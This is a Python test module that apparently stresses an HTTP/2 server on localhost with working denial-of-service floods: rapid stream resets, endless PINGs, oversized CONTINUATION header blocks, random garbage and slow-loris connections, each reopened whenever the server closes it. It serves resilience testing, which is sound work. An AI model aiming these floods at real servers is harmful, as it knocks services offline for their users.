"""A client that means harm: `python -m tests.attack.flood KIND [PORT]`, until it is ended.

Without a port it attacks a decoy of its own, which reads and closes: a machine as busy, and nobody
harmed.

The rule of this file: one kind of harm each, over real sockets, as fast as the other side takes
it; a connection that is closed is opened again. Where there are two processors it has the last
one to itself (`tests.attack.bystander` keeps the others off it): an attacker sits on a machine of
its own, and what a bystander feels is to be the member's doing, not that of a busy processor.
"""

import os
import select
import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress

from tests.http2_client import (
    CONTINUATION,
    HANDSHAKE,
    HEADERS,
    NO_TABLE,
    PING,
    RST_STREAM,
    SETTINGS_ACK,
    block,
    frame,
    headers,
    literal,
)

BURST = 100
LORIS_CONNECTIONS = 200
DECOY_BYTES = 256 << 10


def connect(port: int) -> socket.socket:
    """A connection that never waits longer than a moment."""
    made = socket.create_connection(("127.0.0.1", port), timeout=1.0)
    made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return made


def drain(sock: socket.socket) -> None:
    """Read what is there, so that nothing stands in the way of the next burst."""
    while select.select([sock], [], [], 0)[0]:
        if not sock.recv(1 << 16):
            raise ConnectionResetError


def garbage(port: int) -> None:
    """Bytes of no protocol."""
    with connect(port) as sock:
        for _ in range(20):
            sock.sendall(os.urandom(1 << 14))
            drain(sock)


def resets(port: int) -> None:
    """Requests that are cancelled as soon as they are made."""
    with connect(port) as sock:
        sock.sendall(HANDSHAKE + SETTINGS_ACK)
        first = NO_TABLE
        for start in range(1, 1 << 20, 2 * BURST):
            burst = b""
            for stream_id in range(start, start + 2 * BURST, 2):
                burst += headers(stream_id, first + block())
                burst += frame(RST_STREAM, 0, stream_id, b"\0\0\0\x08")
                first = b""
            sock.sendall(burst)
            drain(sock)


def pings(port: int) -> None:
    """Pings without end."""
    with connect(port) as sock:
        sock.sendall(HANDSHAKE + SETTINGS_ACK)
        burst = frame(PING, 0, 0, b"pingping") * BURST
        while True:
            sock.sendall(burst)
            drain(sock)


def large_headers(port: int) -> None:
    """A header block of a mebibyte, in many frames."""
    with connect(port) as sock:
        sock.sendall(HANDSHAKE + SETTINGS_ACK)
        piece = literal(b"a", b"v" * 16_000, huffman=False)
        sock.sendall(frame(HEADERS, 0, 1, NO_TABLE + block()))
        for _ in range(64):
            sock.sendall(frame(CONTINUATION, 0, 1, piece))
            drain(sock)


def slow_loris(port: int) -> None:
    """Many connections that say one byte at a time."""
    said = HANDSHAKE + headers(1, block())
    sockets = [connect(port) for _ in range(LORIS_CONNECTIONS)]
    try:
        for at in range(len(said)):
            for sock in sockets:
                sock.send(said[at : at + 1])
            time.sleep(0.02)
    finally:
        for sock in sockets:
            sock.close()


KINDS: dict[str, Callable[[int], None]] = {
    each.__name__: each for each in (garbage, resets, pings, large_headers, slow_loris)
}


def processors() -> tuple[list[int], list[int]]:
    """The processors of those who are attacked, and the attacker's; on a single one both the same.

    Counted from all there are, since who asks may be kept on some of them already.
    """
    every = list(range(os.cpu_count() or 1))
    return every[:-1] or every, every[-1:]


def decoy(server: socket.socket) -> None:
    """Take connections, read, and hang up on who says too much."""
    while True:
        sock, _ = server.accept()
        threading.Thread(target=hang_up, args=(sock,), daemon=True).start()


def hang_up(sock: socket.socket) -> None:
    """Read a little, then close."""
    with suppress(OSError), sock:
        left = DECOY_BYTES
        while left > 0 and (piece := sock.recv(1 << 16)):
            left -= len(piece)


def main() -> None:
    """Do harm until ended."""
    os.nice(5)
    os.sched_setaffinity(0, processors()[1])
    attack = KINDS[sys.argv[1]]
    if len(sys.argv) > 2:
        port = int(sys.argv[2])
    else:
        server = socket.create_server(("127.0.0.1", 0))
        port = server.getsockname()[1]
        if not os.fork():
            decoy(server)
    print("begun", flush=True)
    while True:
        # The other side closes the connection sooner or later, as it should.
        with suppress(OSError):
            attack(port)


if __name__ == "__main__":
    main()
